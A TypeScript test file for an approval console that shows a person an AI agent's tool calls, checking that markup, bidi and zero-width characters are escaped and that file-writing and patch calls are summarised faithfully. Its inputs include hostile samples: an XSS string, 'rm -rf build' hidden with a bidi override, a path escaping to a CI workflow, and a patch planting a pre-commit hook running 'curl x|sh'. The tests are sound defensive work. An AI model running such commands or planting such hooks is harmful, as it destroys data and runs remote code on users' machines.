import { describe, expect, it } from 'vitest';
import type { BatchRecord } from '../journal/journal.js';
import { callSummary } from './call-summary.js';
import { batchPage, exact } from './console-html.js';

describe('console text (issue #30 §5)', () => {
  it('issue #30 §5: what a person approves is rendered as text: markup escaped, bidi, zero-width and control characters shown as escapes, nothing removed', () => {
    expect(exact('<img src=x onerror="alert(1)">')).toBe('&lt;img src=x onerror=&quot;alert(1)&quot;&gt;');
    expect(exact('a\u202eb\u200bc\u2066d\x1be\u00a0f\u{e0041}g')).toBe(
      'a\\u202eb\\u200bc\\u2066d\\x1be\\xa0f\\u{e0041}g',
    );
    expect(exact('line one\n\tline two & more')).toBe('line one\n\tline two &amp; more');
  });
});

describe("issue #31 §3: the batch view says which file, and shows a call's exact arguments", () => {
  const content = `${Array.from({ length: 120 }, (_, i) => `line ${i}`).join('\n')}\n`;
  const batch: BatchRecord = {
    id: 'b1',
    session: 's1',
    status: 'complete',
    createdAt: 0,
    calls: [
      { index: 0, id: 'c1', name: 'write_file', arguments: { path: 'src/a.ts', content }, status: 'done' },
      {
        index: 1,
        id: 'c2',
        name: 'run_command',
        arguments: '{"command":"rm -rf build\\u202e"}',
        status: 'done',
      },
      {
        index: 2,
        id: 'c3',
        name: 'apply_patch',
        arguments: {
          patch:
            '*** Begin Patch\n*** Update File: b.ts\n@@\n-x\n+y\n*** Add File: <c>.ts\n+z\n*** End Patch',
        },
        status: 'done',
      },
      { index: 3, id: 'c4', name: 'edit_file', arguments: '{"path": "broken', status: 'done' },
    ],
  };

  it('each call has its summary always, and its whole arguments in a <details>, rendered exactly', () => {
    const html = batchPage(batch);
    expect(html).toContain('<code class="call-summary">write_file src/a.ts (120 lines)</code>');
    // The model's text as a person must see it: the bidi override shown, markup escaped.
    expect(html).toContain('<code class="call-summary">run_command rm -rf build\\u202e</code>');
    expect(html).toContain('<code class="call-summary">apply_patch update b.ts, add &lt;c&gt;.ts</code>');
    expect(html).toContain('<code class="call-summary">edit_file (arguments are not valid JSON)</code>');
    const details = [
      ...html.matchAll(
        /<details class="call-arguments"><summary>arguments<\/summary><pre>([\s\S]*?)<\/pre><\/details>/g,
      ),
    ].map((m) => m[1]);
    expect(details).toEqual([
      exact(JSON.stringify({ path: 'src/a.ts', content }, null, 2)),
      exact(JSON.stringify({ command: 'rm -rf build\u202e' }, null, 2)),
      exact(JSON.stringify(batch.calls[2]?.arguments, null, 2)),
      exact('{"path": "broken'),
    ]);
    expect(details[0]).toContain('line 119');
  });

  it('a long summary is cut in the middle, keeps its end in view, and says where to see it whole', () => {
    const long = `${'x'.repeat(250)}/../../.github/workflows/x.yml`;
    const line = callSummary('write_file', { path: `docs/notes.md${long}`, content: '' });
    expect(line).toMatch(
      /^write_file docs\/notes\.mdx+ … x+\/\.\.\/\.\.\/\.github\/workflows\/x\.yml \(0 lines\) \(cut: see the arguments\)$/,
    );
    expect(line.length).toBeLessThan(220);
  });

  it("apply_patch's summary is what the tool's own parser reads: moves, deletions, indented headers; a content line is no file (hostile review F3)", () => {
    const envelope =
      '*** Begin Patch\n  *** Add File: .husky/pre-commit\n+curl x|sh\n*** Add File: docs/a.md\n+++ b/docs/b.md\n*** Update File: README.md\n*** Move to: .github/workflows/ci.yml\n@@\n-hello\n+on: push\n*** End Patch';
    expect(callSummary('apply_patch', { patch: envelope })).toBe(
      'apply_patch add .husky/pre-commit, add docs/a.md, update README.md → .github/workflows/ci.yml',
    );
    const deletion = '--- a/src/auth.ts\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n';
    expect(callSummary('apply_patch', { patch: deletion })).toBe('apply_patch delete src/auth.ts');
    expect(callSummary('apply_patch', { patch: 'nonsense' })).toBe(
      'apply_patch (a patch that does not parse: see the arguments)',
    );
  });

  it('other tools: their most telling argument', () => {
    expect(callSummary('grep', { pattern: 'TODO', path: 'src' })).toBe('grep TODO in src');
    expect(callSummary('vault_copyto', { source: 'k/a', destination: 'b' })).toBe('vault_copyto k/a → b');
  });
});
